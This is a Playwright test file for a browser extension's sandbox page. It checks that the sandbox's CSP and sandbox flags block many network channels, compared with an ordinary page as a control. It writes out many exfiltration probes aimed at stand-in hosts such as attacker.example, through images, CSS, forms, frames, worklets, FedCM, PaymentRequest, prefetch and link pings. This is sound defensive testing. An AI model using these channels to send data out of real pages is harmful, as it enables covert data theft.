// The sandbox page's CSP and sandbox flags, and the offscreen document's frame policy, tested where they
// apply: in the sandbox page's own window (which remixlet code never gets; this shows what the policy
// stops by itself) and in the offscreen document that frames it. Channels are checked against the
// witnesses, with the same channels from an ordinary page as the control.
import type { BrowserContext, Page } from '@playwright/test';
import { test, expect } from './harness';
import { expectLive, installOn, sandboxWindow, waitForLog } from './hostile-sandbox/kit';
import { WatchedTarget } from './hostile-sandbox/cdp-events';
import { SELF_NAVIGATION, WINDOW_PROBES } from './hostile-sandbox/window-probes';
import { runControls, type Control } from './hostile-sandbox/controls';

/** A shop page with one live sandbox (a remixlet that only logs), for probing the sandbox page's own window. */
async function framedShop(f: {
  openPage: (host: string, path?: string) => Promise<Page>;
  openExtensionPage: (path: string) => Promise<Page>;
  tabIdOf: (p: Page) => Promise<number>;
  evaluateInOffscreen: Parameters<typeof expectLive>[0];
}) {
  const page = await f.openPage('shop.test', '/index.html');
  const installed = await installOn(page, f.tabIdOf, f.openExtensionPage, [{ name: 'Framed', matches: ['*://shop.test/*'], script: `rmx.log('up')` }]);
  await expectLive(f.evaluateInOffscreen, installed.ids);
  return { page, ...installed };
}

/** framedShop, then the sandbox page's own window to probe, with the witness cleared of the set-up's requests. */
async function framedSandboxWindow(
  f: Parameters<typeof framedShop>[0] & { context: BrowserContext; cdp: { listTargets: Parameters<typeof sandboxWindow>[1] }; witness: { clear(): Promise<unknown> } },
) {
  const shop = await framedShop(f);
  await f.witness.clear();
  return { ...shop, win: await sandboxWindow(f.context, f.cdp.listTargets) };
}

const DOCUMENT_CONTROLS: Control[] = [
  { channel: 'image', run: `new Image().src = 'http://attacker.example/control-image'`, seen: (h) => h.path === '/control-image' },
  {
    channel: 'style @import, url() and @font-face',
    run: `(() => { const s = document.createElement('style'); s.textContent = '@import "http://attacker.example/control-import.css"; body { background: url(http://attacker.example/control-bg) }'; document.head.append(s); })()`,
    seen: (h) => h.path === '/control-import.css' || h.path === '/control-bg',
  },
  { channel: 'audio', run: `new Audio('http://attacker.example/control-audio').load()`, seen: (h) => h.path === '/control-audio' },
  {
    channel: 'link prefetch, preload, modulepreload',
    run: `['prefetch', 'preload', 'modulepreload'].forEach((rel) => { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'http://attacker.example/control-link-' + rel; document.head.append(l); })`,
    seen: (h) => h.path?.startsWith('/control-link-') === true,
  },
  {
    channel: 'form POST',
    run: `(() => { const f = document.createElement('form'); f.method = 'post'; f.target = 'sink'; f.action = 'http://attacker.example/control-form'; const i = document.createElement('iframe'); i.name = 'sink'; document.body.append(i, f); f.submit(); })()`,
    seen: (h) => h.path === '/control-form' && h.method === 'POST',
  },
  {
    channel: 'frame navigation',
    run: `(() => { const f = document.createElement('iframe'); f.src = 'http://attacker.example/control-frame'; document.body.append(f); })()`,
    seen: (h) => h.path === '/control-frame',
  },
  // Secure-context channels, from https://other.test/.
  {
    channel: 'paint worklet',
    https: true,
    run: `CSS.paintWorklet.addModule('https://leaking.via/control-paint.js').catch(() => 0)`,
    seen: (h) => h.host === 'leaking.via' && h.path === '/control-paint.js',
  },
  {
    channel: 'audio worklet',
    https: true,
    run: `new AudioContext().audioWorklet.addModule('https://leaking.via/control-audio.js').catch(() => 0)`,
    seen: (h) => h.host === 'leaking.via' && h.path === '/control-audio.js',
  },
  {
    // Chromium asks the identity provider for its well-known file and its config before anything else.
    channel: 'FedCM',
    https: true,
    run: `void navigator.credentials.get({ identity: { providers: [{ configURL: 'https://leaking.via/control-fedcm.json', clientId: 'x' }] } }).catch(() => 0)`,
    seen: (h) => h.host === 'leaking.via' && (h.path === '/control-fedcm.json' || h.path === '/.well-known/web-identity'),
  },
  {
    // A URL payment method: Chromium fetches its manifest (HEAD) to answer canMakePayment.
    channel: 'PaymentRequest',
    https: true,
    run: `new PaymentRequest([{ supportedMethods: 'https://leaking.via/control-pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().catch(() => 0)`,
    seen: (h) => h.host === 'leaking.via' && h.path === '/control-pay',
  },
  {
    // With a proxy configured, Chromium prefetches only same-site (cross-site is PrefetchNotEligibleExistingProxy,
    // asserted below), and only over https; sub.other.test is same-site with other.test and not a fixture host.
    channel: 'speculation rules prefetch',
    https: true,
    run: `(() => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['https://sub.other.test/control-speculation'] }] }); document.body.append(s); })()`,
    seen: (h) => h.host === 'sub.other.test' && h.path === '/control-speculation',
  },
];

test('the sandbox page blocks, by its own CSP and sandbox flags, every document channel; blob: code runs', async ({
  openPage,
  openExtensionPage,
  tabIdOf,
  evaluateInOffscreen,
  context,
  cdp,
  witness,
}) => {
  const { page, panel, ids, win } = await framedSandboxWindow({ openPage, openExtensionPage, tabIdOf, evaluateInOffscreen, context, cdp, witness });
  const r = await win.evaluate<Record<string, string>>(WINDOW_PROBES, { userGesture: true });
  if (process.env.PROBE_DEBUG) console.log(r, win.messages);
  test.info().annotations.push(...Object.entries(r).map(([id, outcome]) => ({ type: 'window probe', description: `${id}: ${outcome}` })));

  expect(r['eval']).toMatch(/^threw: EvalError/);
  expect(r['Function']).toMatch(/^threw: EvalError/);
  expect(r['string timer']).toBe('ran: ran=false');
  expect(r['inline script']).toBe('ran: ran=false');
  expect(r['blob: script']).toBe('ran: loaded ran=true');
  expect(r['remote script']).toBe('ran: error');
  expect(r['blob: worker runs, and cannot fetch']).toBe('ran: worker ran; fetch: TypeError');
  expect(r['data: worker']).toMatch(/^(threw: SecurityError|ran: error)/);
  expect(r['fetch']).toMatch(/^threw: TypeError/);
  expect(r['window.open']).toBe('ran: null');
  expect(r['top navigation']).toMatch(/^threw: SecurityError/);
  expect(r['document.domain']).toMatch(/^threw: SecurityError/);
  expect(r['localStorage']).toMatch(/^threw: SecurityError/);
  for (const id of ['XMLHttpRequest', 'WebSocket', 'EventSource', 'image', 'https image', 'audio']) expect(r[id], id).toBe('ran: error');
  // What refused each channel, in Chromium's words (the frame's console).
  const said = win.messages.join('\n');
  for (const refusal of [
    /Connecting to 'http:\/\/attacker\.example\/window-beacon.*violates .*"connect-src 'none'"/,
    /Connecting to 'http:\/\/attacker\.example\/window-blob-worker.*violates .*"connect-src 'none'"/,
    /Loading the image 'https:\/\/leaking\.via\/window-image' violates .*"img-src 'none'"/,
    /Loading the image 'http:\/\/attacker\.example\/window-constructed-bg.*violates .*"img-src 'none'"/,
    /Loading the font 'http:\/\/attacker\.example\/window-fontface.*violates .*"font-src 'none'"/,
    /Loading media from +'http:\/\/attacker\.example\/window-audio.*violates .*"media-src 'none'"/,
    /Applying inline style violates .*'style-src 'none''/,
    /Fetching content from 'http:\/\/attacker\.example\/window-link-prefetch.*violates .*"default-src 'none'"/,
    /Applying inline speculation rules violates .*'script-src 'self' blob:'/,
    /Loading the script 'http:\/\/attacker\.example\/window-paint\.js.*violates .*"script-src 'self' blob:"/,
    /Creating a worker from 'data:text\/javascript.*violates .*"worker-src blob:"/,
    /Framing 'http:\/\/attacker\.example\/' violates .*"frame-src 'none'"/,
    /Blocked form submission to 'http:\/\/attacker\.example\/window-form-get.*'allow-forms' permission is not set/,
    /Blocked opening 'http:\/\/attacker\.example\/window-popup.*'allow-popups' permission is not set/,
    /navigation of the top-level window is sandboxed, but the flag of 'allow-top-navigation'/,
  ]) {
    expect(said).toMatch(refusal);
  }

  // The sandbox page navigates itself: the offscreen document's frame-src refuses the address, and the
  // frame, now showing an error document, is torn down.
  await win.evaluate(SELF_NAVIGATION).catch(() => undefined);
  await win.detach();
  await expectLive(evaluateInOffscreen, []);
  await waitForLog(panel, ids[0]!, /sandbox ended: the sandbox frame loaded a second document/);
  // No forged message created a sandbox or touched the offscreen document.
  expect(await evaluateInOffscreen(`String(Object.prototype.remixletPolluted)`)).toBe('undefined');

  await witness.expectNoHits({ settleMs: 1_500 });

  const seen = await runControls(page, witness, DOCUMENT_CONTROLS);
  for (const c of DOCUMENT_CONTROLS) expect(seen[c.channel], `control "${c.channel}" seen`).toBeGreaterThan(0);
  // A fact of this browser, not of the sandbox: a cross-site prefetch, like the sandbox probe's, Chromium
  // refuses by itself while a proxy is configured (and any prefetch over http), so for that probe the
  // evidence is its own refusal above (inline speculation rules against script-src), and the control is same-site.
  await page.goto('https://other.test/index.html');
  const preload = await context.newCDPSession(page);
  const prefetches: string[] = [];
  preload.on('Preload.prefetchStatusUpdated' as never, (e: { prefetchUrl?: string; prefetchStatus?: string }) => {
    if (e.prefetchUrl?.startsWith('https://attacker.example/')) prefetches.push(e.prefetchStatus ?? '');
  });
  await preload.send('Preload.enable' as never);
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['https://attacker.example/control-speculation-cross-site'] }] });
    document.body.append(s);
  });
  await expect.poll(() => prefetches).toContain('PrefetchNotEligibleExistingProxy');
  await preload.detach();
  // The control for navigation of a frame, popups and the top: an ordinary page's popup reaches the witness.
  await page.goto('http://other.test/index.html');
  await page.evaluate(() => {
    const b = document.createElement('button');
    b.textContent = 'open';
    b.onclick = () => window.open('http://attacker.example/control-popup');
    document.body.append(b);
  });
  await page.locator('button', { hasText: 'open' }).click();
  await witness.waitForHits((h) => h.some((x) => x.path === '/control-popup'));
});

test('the offscreen document frames only sandbox pages, with the sandbox attribute; web addresses and other extension pages are refused', async ({
  openPage,
  openExtensionPage,
  tabIdOf,
  evaluateInOffscreen,
  context,
  cdp,
  extensionId,
  witness,
}) => {
  await framedShop({ openPage, openExtensionPage, tabIdOf, evaluateInOffscreen });
  // Spare frames (offscreen/spares.ts) are the same sandbox page with the same attribute, bound to nothing.
  expect(await evaluateInOffscreen(`[...document.querySelectorAll('iframe:not([data-spare])')].map((f) => f.getAttribute('sandbox') + ' ' + new URL(f.src).pathname)`)).toEqual([
    'allow-scripts /sandbox/sandbox.html',
  ]);
  expect(await evaluateInOffscreen(`[...document.querySelectorAll('iframe[data-spare]')].every((f) => f.getAttribute('sandbox') === 'allow-scripts' && new URL(f.src).pathname === '/sandbox/sandbox.html')`)).toBe(true);
  await witness.clear();
  const offscreen = await WatchedTarget.attach(context, await cdp.findOffscreenTarget());
  const frame = (url: string) =>
    offscreen.evaluate(`new Promise((resolve) => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(url)}; document.body.append(f); setTimeout(() => { f.remove(); resolve(0); }, 800); })`);

  // A web address: refused by the static frame-src and by the one narrowed to the sandbox page at run time.
  await frame('http://attacker.example/offscreen-frame');
  expect(offscreen.messages.join('\n')).toMatch(/Framing 'http:\/\/attacker\.example\/' violates the following Content Security Policy directive: "frame-src chrome-extension:\/\/[a-p]{32}\/sandbox\/sandbox\.html"/);
  // Another extension page: Chromium lets chrome-extension: addresses bypass CSP, so what refuses it is
  // that page's own frame-ancestors 'none'.
  offscreen.messages.length = 0;
  await frame(`chrome-extension://${extensionId}/panel/panel.html`);
  expect(offscreen.messages.join('\n')).toMatch(/frame-ancestors 'none'/);
  await offscreen.detach();
  await witness.expectNoHits({ settleMs: 500 });
  // The page the offscreen document frames is the sandbox page, with an opaque origin.
  const win = await sandboxWindow(context, cdp.listTargets);
  expect(await win.evaluate(`[origin, typeof chrome === 'undefined' || typeof chrome.runtime === 'undefined' || typeof chrome.runtime.sendMessage].join(' ')`)).toBe('null true');
  await win.detach();
});

// Hyperlink auditing is on in the test browser, as in stock Chrome: the same browser shows it works from a page.
test('an <a ping> clicked in the sandbox page reaches no witness; the same link on an ordinary page pings it', async ({
  openPage,
  openExtensionPage,
  tabIdOf,
  evaluateInOffscreen,
  context,
  cdp,
  witness,
}) => {
  const { page, panel, ids, win } = await framedSandboxWindow({ openPage, openExtensionPage, tabIdOf, evaluateInOffscreen, context, cdp, witness });
  // A link within the document, then one that leaves it (the frame policy refuses that navigation, and the
  // frame, now on an error document, is torn down).
  const clicked = await win.evaluate<string>(
    String.raw`(() => {
      const link = (id, href) => { const a = document.createElement('a'); a.id = id; a.href = href; a.ping = 'http://attacker.example/window-ping-' + id; a.textContent = id; document.body.append(a); return a; };
      link('fragment', '#here').click();
      const before = location.href;
      setTimeout(() => link('away', 'http://other.test/index.html?from-sandbox').click(), 300);
      return before;
    })()`,
    { userGesture: true },
  );
  expect(clicked).toMatch(/\/sandbox\/sandbox\.html/);
  await expectLive(evaluateInOffscreen, []);
  await waitForLog(panel, ids[0]!, /sandbox ended: the sandbox frame loaded a second document/);
  await win.detach();
  await witness.expectNoHits({ settleMs: 1_500 });

  // The same two links on an ordinary page in this browser: each click sends its ping (a POST).
  await page.goto('http://other.test/index.html');
  for (const [id, href] of [['fragment', '#here'], ['away', '/index.html?pinged']] as const) {
    await page.evaluate(
      ({ id, href }) => {
        const a = document.createElement('a');
        a.id = id;
        a.href = href;
        a.ping = `http://attacker.example/control-ping-${id}`;
        a.textContent = id;
        document.body.append(a);
      },
      { id, href },
    );
    await page.locator(`#${id}`).click();
  }
  await witness.waitForHits((h) => ['fragment', 'away'].every((id) => h.some((x) => x.path === `/control-ping-${id}` && x.method === 'POST')), {
    message: 'the ordinary page did not send both pings',
  });
});
